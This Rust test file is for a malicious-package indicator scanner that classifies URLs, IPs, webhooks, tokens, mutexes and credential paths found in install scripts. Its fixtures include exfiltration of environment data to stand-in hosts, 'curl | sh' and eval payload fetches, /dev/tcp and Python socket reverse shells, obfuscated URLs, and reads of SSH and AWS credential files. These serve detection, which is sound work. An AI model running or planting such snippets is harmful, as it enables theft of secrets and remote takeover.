use std::sync::Arc;

use rstest::rstest;

use super::gather::{EACH, PLACES};
use super::scan::Look;
use super::*;
use crate::behavior::{self, Sequence};
use crate::package::{Ecosystem, Entry, File, Manifest, Package, Phase, Target};
use crate::text::Source;

/// Finds in a text of code, as `kind value class odd`.
fn found(text: &str) -> Vec<String> {
    let finds = scan::scan(text, Look { literals: true, hashes: true });
    let shown = finds.found.into_iter().map(|f| {
        assert!(f.span.start < f.span.end && text.get(f.span.start..f.span.end).is_some(), "{f:?}");
        let odd = f.odd.map(|odd| format!(" ({odd})")).unwrap_or_default();
        let class = if f.class.is_empty() { String::new() } else { format!(" {}", f.class) };
        format!("{:?} {}{class}{odd}", f.kind, f.value)
    });
    shown.collect()
}

#[rstest]
#[case::plain("get('https://a.example.com/x?y=1#z')", "Url https://a.example.com/x?y=1#z, Domain a.example.com")]
#[case::case("HTTPS://A.Example.COM/X", "Url https://a.example.com/X, Domain a.example.com")]
#[case::port("ws://a.example.com:8443/s", "Url ws://a.example.com:8443/s, Domain a.example.com")]
#[case::sentence("(see https://a.example.com/b_(c), or not).", "Url https://a.example.com/b_(c), Domain a.example.com")]
#[case::markdown("[a](https://a.example.com/b).", "Url https://a.example.com/b, Domain a.example.com")]
#[case::escape(r#""\nhttps://a.example.com\n""#, "Url https://a.example.com, Domain a.example.com")]
#[case::json(r#""https:\/\/a.example.com\/b""#, "Url https://a.example.com/b, Domain a.example.com")]
#[case::defanged("hxxps://a.example.com/b", "Url https://a.example.com/b, Domain a.example.com")]
#[case::template("`https://a.example.com/${id}`", "Url https://a.example.com/, Domain a.example.com")]
#[case::html("&quot;https://a.example.com/&quot;", "Url https://a.example.com/, Domain a.example.com")]
#[case::address("http://203.0.113.7:8080/a", "Url http://203.0.113.7:8080/a, Ipv4 203.0.113.7")]
#[case::decimal(
    "http://3405803783/a",
    "Url http://203.0.113.7/a (one decimal number), Ipv4 203.0.113.7 (one decimal number)"
)]
#[case::hex("http://0xcb007107/", "Url http://203.0.113.7/ (hexadecimal), Ipv4 203.0.113.7 (hexadecimal)")]
#[case::octal("http://0313.0.0161.07/", "Url http://203.0.113.7/ (octal), Ipv4 203.0.113.7 (octal)")]
#[case::user(
    "https://www.example.org@203.0.113.7/",
    "Url https://www.example.org@203.0.113.7/ (with a name before the host), Ipv4 203.0.113.7"
)]
#[case::v6("http://[2001:db8::7]:80/", "Url http://[2001:db8::7]:80/, Ipv6 2001:db8::7")]
#[case::no_host("'https://' + host", "")]
#[case::format("'https://{}/x'.format(a)", "")]
#[case::percent("'https://%s/x' % a", "")]
#[case::word("see http://host for more", "")]
#[case::scheme("data://x.example.com file:///etc/x", "")]
fn urls(#[case] text: &str, #[case] expected: &str) {
    assert_eq!(found(text).join(", "), expected);
}

#[rstest]
#[case::literal("connect('203.0.113.7', 4444)", "Ipv4 203.0.113.7")]
#[case::port("203.0.113.7:4444", "Ipv4 203.0.113.7")]
#[case::device("bash -i >& /dev/tcp/203.0.113.7/4444", "Ipv4 203.0.113.7")]
#[case::v6("host = '2001:db8::7'", "Ipv6 2001:db8::7")]
#[case::shell("HOST=203.0.113.7\n", "Ipv4 203.0.113.7")]
#[case::version("version = '4.121.33.7'", "")]
#[case::product("Mozilla/5.0 Chrome/120.0.210.16", "")]
#[case::pinned("acme==203.0.113.7", "")]
#[case::range("\"^203.0.113.7\"", "")]
#[case::longer("1.203.0.113.7", "")]
#[case::tail("203.0.113.7-beta", "")]
#[case::prefix("v203.0.113.7", "")]
#[case::small("'1.3.6.1'", "")]
#[case::release("'2.0.0.0'", "")]
#[case::netmask("'255.255.255.0'", "")]
#[case::sentence("It is 203.0.113.7.", "Ipv4 203.0.113.7")]
#[case::time("'12:30:45'", "")]
#[case::slice("a['1:2']", "")]
fn addresses(#[case] text: &str, #[case] expected: &str) {
    assert_eq!(found(text).join(", "), expected);
}

#[rstest]
#[case::literal("host = \"c2.example.com\"", "Domain c2.example.com")]
#[case::port("'c2.example.com:4444'", "Domain c2.example.com")]
#[case::member("os.path.join(a.b.com, this.name)", "")]
#[case::file("open('setup.py'); require('./a.js'); 'README.md'", "")]
#[case::module("require('socket.io'); import a from 'draw.io'", "")]
#[case::key("t('errors.user.name')", "")]
#[case::part("'see c2.example.com for more'", "")]
#[case::package("'com.example.io'", "")]
#[case::onion(
    "'abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuvwx.onion'",
    "Onion abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuvwx.onion onion"
)]
#[case::onion_url(
    "http://abcdefghijklmnop.onion/x",
    "Onion http://abcdefghijklmnop.onion/x onion, Onion abcdefghijklmnop.onion onion"
)]
fn domains(#[case] text: &str, #[case] expected: &str) {
    assert_eq!(found(text).join(", "), expected);
}

#[rstest]
#[case::plain("write to jo.doe+x@mail.example.com.", "Email jo.doe+x@mail.example.com, Domain mail.example.com")]
#[case::brackets("<jo@example.org>", "Email jo@example.org, Domain example.org")]
#[case::scope("'@scope/pkg' pkg@1.2.3 logo@2x.png", "")]
#[case::decorator("@app.route\n@a.b.c", "")]
#[case::repository("git@example.com:a/b.git", "")]
#[case::matrix("a@b.T", "")]
fn mail(#[case] text: &str, #[case] expected: &str) {
    assert_eq!(found(text).join(", "), expected);
}

#[rstest]
#[case::discord(
    "https://discord.com/api/webhooks/1/abc",
    "Webhook https://discord.com/api/webhooks/1/abc discord, Domain discord.com"
)]
#[case::slack(
    "https://hooks.slack.com/services/T/B/x",
    "Webhook https://hooks.slack.com/services/T/B/x slack, Domain hooks.slack.com webhook slack"
)]
#[case::bin("http://webhook.site/1-2", "Webhook http://webhook.site/1-2 request bin, Domain webhook.site request bin")]
#[case::api("https://discord.com/api/users", "Url https://discord.com/api/users, Domain discord.com")]
fn webhooks(#[case] text: &str, #[case] expected: &str) {
    assert_eq!(found(text).join(", "), expected);
}

#[test]
fn bots_are_found_in_addresses_and_alone() {
    let token = format!("123456789:{}", "aB3-x".repeat(7));
    assert_eq!(found(&format!("TOKEN = '{token}'")), [format!("Token {token} telegram bot")]);
    let url = format!("https://api.telegram.org/bot{token}/sendMessage");
    let shown = found(&url);
    assert!(shown.contains(&format!("Token {token} telegram bot")), "{shown:?}");
    assert!(shown.contains(&format!("Webhook {url} telegram bot")), "{shown:?}");
}

#[rstest]
#[case::md5("'9e107d9d372bb6826bd81d3542a419d6'", "Hash 9e107d9d372bb6826bd81d3542a419d6 md5")]
#[case::sha1("2fd4e1c67a2d28fced849ee1bb76e7391b93eb12", "Hash 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12 sha1")]
#[case::digits("'12345678901234567890123456789012'", "")]
#[case::integrity("sha512-9e107d9d372bb6826bd81d3542a419d69e107d9d372bb6826bd81d3542a419d6==", "")]
#[case::blob("AAAA/9e107d9d372bb6826bd81d3542a419d6", "")]
#[case::registry(r"'HKEY_CURRENT_USER\\Software\\Acme'", r"RegistryKey HKEY_CURRENT_USER\Software\Acme")]
#[case::registry_short(r"reg add HKCU\Software\Acme /v x", r"RegistryKey HKCU\Software\Acme")]
#[case::wallet("pay 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 now", "Wallet 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 bitcoin")]
fn words(#[case] text: &str, #[case] expected: &str) {
    assert_eq!(found(text).join(", "), expected);
}

#[test]
fn a_text_full_of_beginnings_takes_no_longer_than_its_length() {
    for part in ["http://%", "a@", "CreateMutex(\"", "\"Global\\\\", "\"a.b.", "1.1.1.", "http://a", "x:", "HKLM\\"] {
        let text = part.repeat(4_000_000 / part.len());
        let started = std::time::Instant::now();
        scan::scan(&text, Look { literals: true, hashes: true });
        // Cost that grows with the square would be hours.
        assert!(started.elapsed().as_secs() < 60, "{part}: {:?}", started.elapsed());
    }
}

/// The indicators of an npm package with one file that runs on installation, as `role kind value`.
fn roles(code: &str) -> Vec<String> {
    told(&[("package/a.js", code)])
}

fn told(files: &[(&str, &str)]) -> Vec<String> {
    indicators(files).into_iter().map(|i| format!("{} {:?} {}", i.role.word(), i.kind, i.value)).collect()
}

fn indicators(files: &[(&str, &str)]) -> Vec<Indicator> {
    let package = package(files);
    let sequence = behavior::extract(&package, &behavior::Reading::default()).sequence;
    let (found, skips) = collect(&package, &sequence);
    assert_eq!(skips, []);
    for indicator in &found {
        assert!(!indicator.places.is_empty(), "{indicator:?}");
    }
    found
}

fn package(files: &[(&str, &str)]) -> Package {
    let file = |(path, text): &(&str, &str)| File {
        path: (*path).to_owned(),
        bytes: text.as_bytes().into(),
        source: Some(Arc::new(Source::new((*text).to_owned()))),
    };
    Package {
        path: "x.tgz".to_owned(),
        archive: String::new(),
        sha256: String::new(),
        size: 0,
        ecosystem: Ecosystem::Npm,
        name: None,
        version: None,
        root: "package/".to_owned(),
        tops: Vec::new(),
        files: files.iter().map(file).collect(),
        manifest: Manifest { homepage: Some("https://own.example.io/".to_owned()), ..Manifest::default() },
        entries: vec![Entry { phase: Phase::Install, name: "postinstall".to_owned(), target: Target::File(0) }],
        oddities: Vec::new(),
        skipped: Vec::new(),
    }
}

#[rstest]
#[case::sent(
    "const os = require('os'); fetch('https://c.sink.zz/in', {method: 'POST', body: os.hostname()})",
    "exfil Url https://c.sink.zz/in"
)]
#[case::sent_later(
    "const h = require('https'); const r = h.request({hostname: 'c.sink.zz', path: '/in'}, () => {}); r.write(JSON.stringify(process.env)); r.end()",
    "exfil Domain c.sink.zz"
)]
#[case::run(
    "const a = require('axios'); a.get('https://c.sink.zz/x.js').then(r => eval(r.data))",
    "payload Url https://c.sink.zz/x.js"
)]
#[case::written(
    "const h = require('https'), fs = require('fs'); h.get('https://c.sink.zz/x.bin', r => { fs.writeFileSync('/tmp/x', r) })",
    "payload Url https://c.sink.zz/x.bin"
)]
#[case::shell(
    "require('child_process').exec('curl -s https://c.sink.zz/x.sh | sh')",
    "payload Url https://c.sink.zz/x.sh"
)]
#[case::socket("require('net').connect(4444, '198.51.100.9')", "connection Ipv4 198.51.100.9")]
#[case::reverse_shell(
    "require('child_process').exec('bash -i >& /dev/tcp/198.51.100.9/4444 0>&1')",
    "c2 Ipv4 198.51.100.9"
)]
#[case::local("require('net').connect(4444, '127.0.0.1')", "benign Ipv4 127.0.0.1")]
#[case::contact("fetch('https://c.sink.zz/in')", "contact Url https://c.sink.zz/in")]
#[case::base("const B = 'https://c.sink.zz'; fetch(B + '/in')", "contact Url https://c.sink.zz")]
#[case::unknown("const u = 'https://c.sink.zz/in'", "unknown Url https://c.sink.zz/in")]
#[case::comment("// https://c.sink.zz/in\nlet a = 1", "context Url https://c.sink.zz/in")]
#[case::known("const u = 'https://github.com/a/b'", "benign Url https://github.com/a/b")]
#[case::lookalike("const u = 'https://github.com.sink.zz/a'", "unknown Url https://github.com.sink.zz/a")]
#[case::own("const u = 'https://api.own.example.io/a'", "context Url https://api.own.example.io/a")]
#[case::webhook(
    "fetch('https://discord.com/api/webhooks/1/x', {method: 'POST', body: text})",
    "exfil Webhook https://discord.com/api/webhooks/1/x"
)]
#[case::idle_webhook(
    "const u = 'https://discord.com/api/webhooks/1/x'",
    "unknown Webhook https://discord.com/api/webhooks/1/x"
)]
fn the_role_is_what_the_code_does(#[case] code: &str, #[case] expected: &str) {
    let found = roles(code);
    assert!(found.iter().any(|shown| shown == expected), "{found:?}");
}

#[test]
fn a_socket_whose_function_starts_a_shell_is_a_command_channel() {
    let code = "import socket, os, subprocess\ns = socket.socket()\ns.connect(('198.51.100.9', 4444))\n\
                os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n";
    let mut package = package(&[("package/setup.py", code)]);
    package.ecosystem = Ecosystem::Pypi;
    let sequence = behavior::extract(&package, &behavior::Reading::default()).sequence;
    let (found, _) = collect(&package, &sequence);
    let shown: Vec<String> = found.iter().map(|i| format!("{} {}", i.role.word(), i.value)).collect();
    assert!(shown.contains(&"c2 198.51.100.9".to_owned()), "{shown:?}");
}

#[rstest]
#[case::joined("const a = 'https://c.si'; const u = a + 'nk.zz/' + 'in'; go(u)", "Url https://c.sink.zz/in")]
#[case::decoded(
    "const u = Buffer.from('aHR0cHM6Ly9jLnNpbmsuenovaW4=', 'base64').toString(); go(u)",
    "Url https://c.sink.zz/in"
)]
#[case::escaped(r"const u = '\x68ttps://c.sink.zz/in'; go(u)", "Url https://c.sink.zz/in")]
#[case::reversed("const u = 'ni/zz.knis.c//:sptth'.split('').reverse().join(''); go(u)", "Url https://c.sink.zz/in")]
fn folded_constants_are_read(#[case] code: &str, #[case] expected: &str) {
    let found = indicators(&[("package/a.js", code)]);
    let indicator = found.iter().find(|i| format!("{:?} {}", i.kind, i.value) == expected);
    let indicator = indicator.unwrap_or_else(|| panic!("{found:?}"));
    assert!(indicator.places.iter().all(|place| place.origin == Origin::Folded), "{indicator:?}");
}

#[test]
fn layers_are_read_and_their_places_lead_into_them() {
    let code = "eval(Buffer.from('Y29uc3QgdSA9ICdodHRwczovL2Muc2luay56ei9pbic7', 'base64').toString())";
    let found = indicators(&[("package/a.js", code)]);
    let url = found.iter().find(|i| i.kind == Kind::Url).unwrap();
    assert_eq!((url.value.as_str(), url.places[0].doc), ("https://c.sink.zz/in", Doc::Layer(0)));
}

#[test]
fn one_value_has_all_its_places_code_first() {
    let url = "https://c.sink.zz/in";
    let (readme, code) = (format!("See {url}.\n"), format!("const u = '{url}'; // {url}"));
    let found = indicators(&[("package/README.md", &readme), ("package/a.js", &code)]);
    let [indicator] = found.iter().filter(|i| i.kind == Kind::Url).collect::<Vec<_>>().try_into().unwrap();
    let places: Vec<(Doc, usize, bool)> = indicator.places.iter().map(|p| (p.doc, p.span.start, p.aside)).collect();
    assert_eq!(places, [(Doc::File(1), 11, false), (Doc::File(0), 4, true), (Doc::File(1), 37, true)]);
    assert_eq!(indicator.role, Role::Unknown);
}

#[test]
fn digests_in_lists_and_locks_are_no_indicators() {
    let lock = "\"integrity\": \"9e107d9d372bb6826bd81d3542a419d6\"";
    let found = told(&[("package/package-lock.json", lock), ("package/yarn.lock", lock), ("package/data.json", lock)]);
    assert_eq!(found, [""; 0]);
}

#[test]
fn telling_paths_come_from_literals() {
    let code = "require('fs').readFileSync(home + '/.aws/credentials'); f('.ssh', 'id_rsa'); g('cat /etc/passwd', 'Login data not found'); // ~/.npmrc";
    let all = indicators(&[("package/a.js", code)]);
    let paths = all.iter().filter(|i| i.kind == Kind::Path && i.places[0].origin == Origin::Source);
    let shown: Vec<String> = paths.map(|i| format!("{} {}", i.class, i.value)).collect();
    assert_eq!(
        shown,
        ["ssh keys .ssh", "aws keys /.aws/credentials", "system passwords /etc/passwd", "ssh keys id_rsa"]
    );
}

#[test]
fn too_many_of_a_kind_are_told() {
    let code: String = (0..EACH + 40).map(|i| format!("a('https://h{i}.example.com/');\n")).collect();
    let package = package(&[("package/a.js", &code)]);
    let (found, skips) = collect(&package, &Sequence::default());
    assert_eq!(found.iter().filter(|i| i.kind == Kind::Url).count(), EACH);
    assert_eq!(skips.len(), 2, "{skips:?}");
    assert!(skips[0].reason.contains("URLs") && skips[1].reason.contains("Domains"), "{skips:?}");
}

#[test]
fn many_places_are_counted() {
    let code = "a('https://h.example.com/');\n".repeat(PLACES + 5);
    let (found, _) = collect(&package(&[("package/a.js", &code)]), &Sequence::default());
    assert_eq!((found[0].places.len(), found[0].more), (PLACES, 5));
}

#[rstest]
#[case(Kind::Url, "https://a.example.com/b.js?c=d.e", "hxxps://a[.]example[.]com/b.js?c=d.e")]
#[case(Kind::Url, "wss://u@203.0.113.7:80", "wxss://u@203[.]0[.]113[.]7:80")]
#[case(Kind::Domain, "a.example.com", "a[.]example[.]com")]
#[case(Kind::Ipv6, "2001:db8::7", "2001[:]db8[:][:]7")]
#[case(Kind::Email, "a.b@example.com", "a[.]b[@]example[.]com")]
#[case(Kind::Path, "~/.ssh", "~/.ssh")]
fn what_is_shown_makes_no_link(#[case] kind: Kind, #[case] value: &str, #[case] expected: &str) {
    let value = value.to_owned();
    let class = String::new();
    let indicator = Indicator { kind, value, class, role: Role::Unknown, odd: None, places: Vec::new(), more: 0 };
    assert_eq!(indicator.defanged(), expected);
}

#[rstest]
#[case::python("win32event.CreateMutex(None, False, 'acme-demo-running')", "Mutex acme-demo-running")]
#[case::ctypes("k.CreateMutexW(None, 1, u\"Acme_7F3A\")", "Mutex Acme_7F3A")]
#[case::powershell(r"New-Object System.Threading.Mutex($false, 'Global\AcmeDemo')", r"Mutex Global\AcmeDemo")]
#[case::namespace(r#"const m = "Local\\acme demo";"#, r"Mutex Local\acme demo")]
#[case::variable("CreateMutex(None, False, name); print('ready')", "")]
#[case::lock("const lock = new Mutex(); lock.run('task')", "")]
#[case::folder(r"cd C:\Global\Acme; x = 'C:\Local\Acme'", "")]
#[case::alone(r#"prefix = "Global\\""#, "")]
fn mutexes(#[case] text: &str, #[case] expected: &str) {
    assert_eq!(found(text).join(", "), expected);
}

#[test]
fn kinds_are_called_the_same_everywhere() {
    for kind in Kind::ALL {
        assert_eq!(serde_json::to_value(kind).unwrap(), kind.word());
    }
}

#[test]
fn pages_are_for_hashes_of_files() {
    let known = pages(&"ab".repeat(32));
    assert_eq!(known.len(), 2);
    assert!(known[0].ends_with(&format!("/file/{}", "ab".repeat(32))) && known[1].contains("sha256%3Aab"));
    assert!(pages(&"ab".repeat(64)).is_empty());
}
